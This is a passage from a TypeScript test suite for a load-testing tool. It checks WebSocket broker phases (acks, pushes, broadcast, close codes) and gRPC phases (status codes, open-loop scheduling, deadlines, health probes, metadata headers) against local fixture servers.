        ws.send(JSON.stringify({ type: 'ack', id: m.id }));
        peers.get(Number(m.to))?.send(JSON.stringify({ type: 'push', id: m.id }));
      });
    });
    await new Promise<void>((r) => http.listen(0, '127.0.0.1', r));
    const { port } = http.address() as AddressInfo;
    await loadHook('seal.mjs', HOOK);
    try {
      const t = await runWs({
        ws: {
          url: `ws://127.0.0.1:${port}/ws`,
          headers: {},
          hello: ['{"type":"hello","peer":{{peer}}}'],
          helloReply: true,
          message: '{"type":"dm","id":"{{id}}","to":{{other}},"n":{{n}}}',
          drainMs: 1000,
          push: 'none',
          hook: { file: 'seal.mjs', source: HOOK },
        },
        phase: { kind: 'ws', name: 'p', peers: 4, messages: 10 },
        timeoutMs: 2000,
      }).done;
      // 3 peers × 10 messages, each sealed by the hook and opened by the broker
      expect(t).toMatchObject({ sent: 30, successes: 30, errors: { 'close-4003': 1 } });
      expect(decrypted).toBe(30);
      expect(t.requests?.[0]).toMatchObject({ errors: { 'close-4003': 1 } });
      // 4 hellos, 3 replies, 30 messages
      expect(t.hook?.calls).toBe(37);
    } finally {
      for (const c of wss.clients) c.terminate();
      wss.close();
      http.close();
    }
  });
});

describe('WebSocket phases against a broker on 127.0.0.1', () => {
  /** A tiny broker: `?peer=N` names a socket; {id, to} is acked to its sender and pushed to peer `to`. */
  async function broker(
    o: {
      dropPushTo?: number;
      closePeerAfter?: { peer: number; messages: number };
      closeOnHello?: number;
      /** broadcast: every message pushed to every other peer (but `dropPushTo`); echo: acked only */
      mode?: 'dm' | 'broadcast' | 'echo';
    } = {},
  ) {
    const http = createServer((_req, res) => {
      res.statusCode = 404;
      res.end();
    });
    const wss = new WebSocketServer({ noServer: true });
    const peers = new Map<number, WebSocket>();
    const received = new Map<number, number>();
    http.on('upgrade', (req, socket, head) => {
      const url = new URL(req.url ?? '/', 'http://x');
      if (url.pathname !== '/ws') {
        socket.end('HTTP/1.1 403 Forbidden\r\n\r\n');
        return;
      }
      wss.handleUpgrade(req, socket, head, (ws) => {
        const me = Number(url.searchParams.get('peer'));
        peers.set(me, ws);
        ws.on('message', (data) => {
          const m = JSON.parse(String(data)) as { type: string; id: string; to: number };
          if (m.type === 'hello' && o.closeOnHello) ws.close(o.closeOnHello, 'bad hello');
          if (m.type !== 'dm') return;
          const n = (received.get(me) ?? 0) + 1;
          received.set(me, n);
          ws.send(JSON.stringify({ type: 'ack', id: m.id }));
          const push = JSON.stringify({ type: 'push', id: m.id, from: me });
          if (o.mode === 'broadcast') {
            for (const [k, peer] of peers) if (k !== me && k !== o.dropPushTo) peer.send(push);
          } else if (o.mode !== 'echo' && m.to !== o.dropPushTo) peers.get(m.to)?.send(push);
          if (o.closePeerAfter?.peer === me && n === o.closePeerAfter.messages) ws.close(4001, 'kicked');
        });
      });
    });
    await new Promise<void>((r) => http.listen(0, '127.0.0.1', r));
    const { port } = http.address() as AddressInfo;
    brokers.push({ http, wss });
    const plan = (over: Partial<PlanWebSocket> = {}): PlanWebSocket => ({
      url: `ws://127.0.0.1:${port}/ws?peer={{peer}}`,
      headers: {},
      hello: ['{"type":"hello","peer":{{peer}}}'],
      message: '{"type":"dm","id":"{{id}}","to":{{other}},"n":{{n}}}',
      drainMs: 1000,
      ...over,
    });
    return { plan, received };
  }
  const brokers: Array<{ http: Server; wss: WebSocketServer }> = [];
  afterEach(() => {
    for (const b of brokers.splice(0)) {
      for (const c of b.wss.clients) c.terminate();
      b.wss.close();
      b.http.close();
    }
  });
  const phase = (peers: number, messages: number, rate?: number): WsPhase => ({
    kind: 'ws',
    name: 'p',
    peers,
    messages,
    ...(rate ? { rate } : {}),
  });
  const entry = (t: EngineTally, i: number) => t.requests?.[i];

  it('closed loop: every message acked and pushed; ack, push and connect each measured', async () => {
    const { plan, received } = await broker();
    const t = await runWs({ ws: plan(), phase: phase(5, 20), timeoutMs: 2000 }).done;
    expect(t).toMatchObject({ sent: 100, responses: 100, successes: 100, errors: {} });
    expect(t.delivery).toEqual({ sent: 100, delivered: 100 });
    expect([...received.values()].reduce((a, b) => a + b, 0)).toBe(100);
    expect(entry(t, 0)).toMatchObject({ sent: 100, responses: 100, errors: {} });
    expect(entry(t, 1)).toMatchObject({ sent: 5, responses: 5, errors: {} });
    expect(decodeHistogram(entry(t, 1)!.histogram).totalCount).toBe(5);
    expect(decodeHistogram(t.histogram).totalCount).toBe(100);
  });

  it('at a per-peer rate the schedule is kept', async () => {
    const { plan } = await broker();
    const started = performance.now();
    const t = await runWs({ ws: plan(), phase: phase(4, 10, 20), timeoutMs: 2000 }).done;
    // 10 messages at 20/s: the last is due 450 ms after the first
    expect(performance.now() - started).toBeGreaterThan(440);
    expect(t.delivery).toEqual({ sent: 40, delivered: 40 });
  });

  it('at a per-peer rate, sends follow the open-loop schedule: counted, never held by the server', async () => {
    const { plan } = await broker();
    const t = await runWs({ ws: plan(), phase: phase(3, 10, 50), timeoutMs: 2000 }).done;
    expect(t.responses).toBe(30);
    // 3 peers × 10 messages scheduled; a WebSocket send waits for nothing, so no delay is the server's
    expect(t.open).toMatchObject({ scheduled: 30, lateService: 0, unfinished: 0 });
    expect(t.open?.delayUs.service).toBe(0);
  });

  it('push: all (a broadcast): every other peer’s delivery counts', async () => {
    const { plan } = await broker({ mode: 'broadcast' });
    const t = await runWs({ ws: plan({ push: 'all' }), phase: phase(4, 10), timeoutMs: 2000 }).done;
    expect(t.responses).toBe(40);
    // 40 messages, each due to the 3 other peers
    expect(t.delivery).toEqual({ sent: 120, delivered: 120 });
    expect(entry(t, 0)).toMatchObject({ sent: 120, responses: 120, errors: {} });
  });

  it('push: all, a peer the broadcast misses: delivery says what share arrived, no-push counts each', async () => {
    const { plan } = await broker({ mode: 'broadcast', dropPushTo: 0 });
    const t = await runWs({ ws: plan({ push: 'all', drainMs: 300 }), phase: phase(4, 10), timeoutMs: 2000 }).done;
    // the 30 messages of peers 1–3 never reach peer 0 (with push: one, a single other arrival would have hidden it)
    expect(t.delivery).toEqual({ sent: 120, delivered: 90 });
    expect(entry(t, 0)!.errors['no-push']).toBe(30);
  });

  it('push: none (an echo server): no push entry, no no-push, and no wait for the drain', async () => {
    const { plan } = await broker({ mode: 'echo' });
    const started = performance.now();
    const t = await runWs({ ws: plan({ push: 'none', drainMs: 5000 }), phase: phase(3, 10), timeoutMs: 2000 }).done;
    expect(t).toMatchObject({ sent: 30, responses: 30, successes: 30, errors: {} });
    expect(t.delivery).toBeUndefined();
    // connect is the only entry
    expect(t.requests).toHaveLength(1);
    expect(entry(t, 0)).toMatchObject({ sent: 3, responses: 3 });
    // every ack in: the stage ends then, not after the 5 s drain
    expect(performance.now() - started).toBeLessThan(4000);
  });

  it('pushes that never arrive lower delivery and count as no-push, within the drain', async () => {
    const { plan } = await broker({ dropPushTo: 0 });
    const t = await runWs({ ws: plan({ drainMs: 300 }), phase: phase(3, 30), timeoutMs: 2000 }).done;
    const lost = entry(t, 0)!.errors['no-push'] ?? 0;
    expect(lost).toBeGreaterThan(0);
    expect(t.delivery).toEqual({ sent: 90, delivered: 90 - lost });
    expect(t.responses).toBe(90);
  });

  it('a peer the server closes mid-phase is an error by close code; the others go on', async () => {
    const { plan } = await broker({ closePeerAfter: { peer: 1, messages: 5 } });
    const t = await runWs({ ws: plan({ drainMs: 300 }), phase: phase(3, 20), timeoutMs: 2000 }).done;
    expect(t.errors['close-4001']).toBe(1);
    expect(t.sent).toBeGreaterThanOrEqual(45);
    expect(t.sent).toBeLessThan(60);
  });

  it('a peer closed while it waits for its hello reply is a connect error by close code, at once', async () => {
    const { plan } = await broker({ closeOnHello: 4401 });
    const started = performance.now();
    await expect(runWs({ ws: plan({ helloReply: true }), phase: phase(2, 1), timeoutMs: 5000 }).done).rejects.toThrow(
      /no peer could connect \(close-4401 ×2\)/,
    );
    // not after the 5 s hello timeout
    expect(performance.now() - started).toBeLessThan(4000);
  });

  it('an upgrade every peer is refused: the run fails naming the URL and the status', async () => {
    const { plan } = await broker();
    const url = plan().url.replace('/ws?', '/nope?');
    await expect(runWs({ ws: plan({ url }), phase: phase(2, 1), timeoutMs: 2000 }).done).rejects.toThrow(
      /no peer could connect \(upgrade-403 ×2\)/,
    );
  });
});

describe('gRPC phases against the grpc-search fixture on 127.0.0.1', () => {
  const SERVER = join(ROOT, 'fixtures/grpc-search/bin/server');
  const PROTO = join(ROOT, 'fixtures/grpc-search/search.proto');
  const started: ChildProcess[] = [];
  afterEach(() => {
    for (const p of started.splice(0)) p.kill('SIGKILL');
  });

  /** Starts the server (built by scripts/provision-images.sh) on a free port; waits until it answers. */
  async function server(env: Record<string, string> = {}): Promise<PlanGrpc> {
    // below Linux's ephemeral range (32768 and up): a port the tests' own client sockets use as their
    // source port cannot be bound, and the fixture then never listens (seen in fresh-clone CI runs,
    // where load tests in other files hold thousands of connections)
    const port = 20000 + Math.floor(Math.random() * 12000);
    const proc = spawn(SERVER, [], { env: { ...env, LISTEN: `127.0.0.1:${port}` }, stdio: 'ignore' });
    started.push(proc);
    for (let i = 0; i < 100; i++) {
      const ok = spawnSync(SERVER, ['-health', `127.0.0.1:${port}`]).status === 0;
      if (ok) break;
      await new Promise((r) => setTimeout(r, 50));
    }
    const root = loadProto(PROTO, { resolveImport: () => PROTO });
    const calls = encodeGrpcCalls(root.toJSON() as Record<string, unknown>, 'vectordb.VectorDB', 'Search', [
      { collection: 'docs', vector: [0.1, 0.2, 0.3], k: 5 },
      { collection: 'docs', vector: [0.3, 0.2, 0.1], k: 10 },
    ]);
    return {
      url: `grpc://127.0.0.1:${port}`,
      service: 'vectordb.VectorDB',
      method: 'Search',
      ...calls,
      metadata: { 'x-tenant': 'perf-gate' },
      channels: 2,
      deadlineMs: 2000,
    };
  }

  it('closed loop: a fixed number of calls, every one OK, answered bytes counted', async () => {
    const g = await server();
    const t = await runGrpcClosed(g, 4, { requests: 300 }).done;
    expect(t).toMatchObject({ sent: 300, responses: 300, successes: 300, failures: 0, statusCodes: { OK: 300 } });
    expect(t.bytes).toBeGreaterThan(300 * 20);
    expect(decodeHistogram(t.histogram).totalCount).toBe(300);
  });

  it('results by status name: UNAVAILABLE every 4th call, DEADLINE_EXCEEDED past the deadline', async () => {
    const g = await server({ ERROR_EVERY: '4', DEADLINE_EVERY: '5' });
    const t = await runGrpcClosed({ ...g, deadlineMs: 200 }, 2, { requests: 40 }).done;
    expect(t.responses).toBe(40);
    expect(t.statusCodes.UNAVAILABLE).toBe(10);
    // every 5th call the server counts that ERROR_EVERY did not fail already: 5, 10, 15, 25, 30, 35;
    // the client's deadline and the server's answer race, so a few come back CANCELLED
    const late = (t.statusCodes.DEADLINE_EXCEEDED ?? 0) + (t.statusCodes.CANCELLED ?? 0);
    expect(late).toBe(6);
    expect(t.statusCodes.DEADLINE_EXCEEDED).toBeGreaterThan(0);
    expect(t.statusCodes.OK).toBe(24);
    expect(t.failures).toBe(t.statusCodes.UNAVAILABLE! + late);
    expect(t.successes).toBe(t.statusCodes.OK);
  });

  it('open loop: the schedule is kept at the rate', async () => {
    const g = await server({ BURN: '1ms' });
    const t = await runGrpcOpen({
      grpc: g,
      schedule: { startAt: performance.now() + 20, rate: 200, durationMs: 1500, stride: 1, offset: 0 },
      inFlight: 8,
      timeoutMs: 2000,
    }).done;
    expect(t.open).toMatchObject({ scheduled: 300, unfinished: 0 });
    expect(t.statusCodes).toEqual({ OK: 300 });
    expect(t.elapsedMs).toBe(1500);
    // a service that keeps up: every answer but the last few within the window
    expect(t.answeredInWindow).toBeGreaterThan(295);
    // a 1 ms service: latency is at least its cost
    const h = decodeHistogram(t.histogram);
    expect(h.getValueAtPercentile(50)).toBeGreaterThanOrEqual(1000);
    h.destroy();
  });

  it('open loop: max in flight holds calls back, and their wait counts in their latency', async () => {
    // one call at a time to a 10 ms service, 200 a second due: each waits for the one before
    const g = await server({ BURN: '10ms' });
    const t = await runGrpcOpen({
      grpc: g,
      schedule: { startAt: performance.now() + 20, rate: 200, durationMs: 1000, stride: 1, offset: 0 },
      inFlight: 1,
      timeoutMs: 3000,
    }).done;
    expect(t.open?.scheduled).toBe(200);
    expect(t.open?.lateService).toBeGreaterThan(100);
    const h = decodeHistogram(t.histogram);
    // the last calls were due ~1 s before a slot freed for them
    expect(h.getValueAtPercentile(99)).toBeGreaterThan(500_000);
    h.destroy();
    // the rate is the service's, ~100 calls a second, the answers within the window (the backlog is
    // answered in the grace period after it: with those, the offered 200)
    expect(t.open?.unfinished).toBe(0);
    const rate = ((t.answeredInWindow ?? t.responses) * 1000) / t.elapsedMs;
    expect(rate).toBeGreaterThan(70);
    expect(rate).toBeLessThan(120);
  });

  it('a server that accepts and never answers: the calls in flight at the window’s end meet their deadline', async () => {
    const sockets = new Set<Socket>();
    // it speaks HTTP/2 far enough to connect (an empty SETTINGS frame), then answers nothing
    const silent = createNetServer((c) => {
      sockets.add(c);
      c.on('error', () => undefined);
      c.write(Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]));
    });
    await new Promise<void>((r) => silent.listen(0, '127.0.0.1', r));
    try {
      const g = await server();
      const { port } = silent.address() as AddressInfo;
      const t = await runGrpcClosed({ ...g, url: `grpc://127.0.0.1:${port}`, deadlineMs: 300 }, 2, { durationMs: 100 })
        .done;
      // before, the two calls in flight at 100 ms were cancelled and counted nowhere
      expect(t.responses).toBe(2);
      expect(t.successes).toBe(0);
      expect(Object.keys(t.statusCodes)).toEqual(['DEADLINE_EXCEEDED']);
      expect(t.elapsedMs).toBeLessThan(300);
    } finally {
      silent.close();
      for (const c of sockets) c.destroy();
    }
  });

  it('a grpc:// ready probe asks the health protocol: SERVING is ready; NOT_SERVING and no health service say why', async () => {
    const g = await server();
    const addr = g.url.replace('grpc://', '');
    expect(await waitReady(`grpc://${addr}`, 2000)).toBeUndefined();
    expect(await waitReady(`grpc://${addr}/vectordb.VectorDB`, 2000)).toBeUndefined();
    // an unknown service: NOT_FOUND (grpc-status 5), until the timeout
    expect(await waitReady(`grpc://${addr}/no.Such`, 600)).toBe('grpc-status 5');
    const down = await server({ HEALTH_NOT_SERVING: '1' });
    expect(await waitReady(down.url, 600)).toBe('NOT_SERVING');
    // a gRPC server without the health service (Node's, answering UNIMPLEMENTED)
    const bare = createH2Server();
    bare.on('stream', (stream) => {
      stream.on('error', () => undefined);
      stream.respond({ ':status': 200, 'content-type': 'application/grpc', 'grpc-status': '12' }, { endStream: true });
    });
    await new Promise<void>((r) => bare.listen(0, '127.0.0.1', r));
    try {
      const { port } = bare.address() as AddressInfo;
      expect(await waitReady(`grpc://127.0.0.1:${port}`, 600)).toMatch(
        /^UNIMPLEMENTED: the server has no gRPC health service/,
      );
    } finally {
      bare.close();
    }
    expect(await waitReady('grpc://127.0.0.1:1', 600)).toBe('ECONNREFUSED');
  });

  it('a server that is not there: every call fails with the connect error, nothing hangs', async () => {
    const g = await server();
    const t = await runGrpcClosed({ ...g, url: 'grpc://127.0.0.1:1' }, 2, { requests: 6 }).done;
    expect(t.statusCodes).toEqual({});
    expect(t.errors).toEqual({ ECONNREFUSED: 6 });
  });

  it('grpc-go sees the metadata: a server that requires it answers OK with it, UNAUTHENTICATED without', async () => {
    const g = await server({ REQUIRE_METADATA: 'x-tenant=perf-gate' });
    const ok = await runGrpcClosed(g, 2, { requests: 20 }).done;
    expect(ok.statusCodes).toEqual({ OK: 20 });
    const wrong = await runGrpcClosed({ ...g, metadata: { 'x-tenant': 'someone-else' } }, 2, { requests: 20 }).done;
    expect(wrong.statusCodes).toEqual({ UNAUTHENTICATED: 20 });
  });

  it('metadata and the deadline go out as headers (grpc-timeout), the method as the path', async () => {
    const seen: Array<Record<string, unknown>> = [];
    const h2 = createH2Server();
    h2.on('stream', (stream, headers) => {
      seen.push({ ...headers });
      stream.on('error', () => undefined);
      stream.on('data', () => undefined);
      stream.on('end', () => {
        stream.respond({ ':status': 200, 'content-type': 'application/grpc' }, { waitForTrailers: true });
        stream.on('wantTrailers', () =>
          stream.sendTrailers({ 'grpc-status': '5', 'grpc-message': 'no such collection' }),
        );
        stream.end(Buffer.from([0, 0, 0, 0, 0]));
      });
    });
    await new Promise<void>((r) => h2.listen(0, '127.0.0.1', r));
    try {
      const g = await server();
      const { port } = h2.address() as AddressInfo;
      const t = await runGrpcClosed({ ...g, url: `grpc://127.0.0.1:${port}`, deadlineMs: 1500 }, 2, { requests: 4 })
        .done;
      // the status comes from the trailers
      expect(t.statusCodes).toEqual({ NOT_FOUND: 4 });
      expect(seen[0]).toMatchObject({
        ':method': 'POST',
        ':path': '/vectordb.VectorDB/Search',
        'content-type': 'application/grpc',
        te: 'trailers',
        'grpc-timeout': '1500m',
        'x-tenant': 'perf-gate',
      });
    } finally {
      h2.close();
    }
  });
});
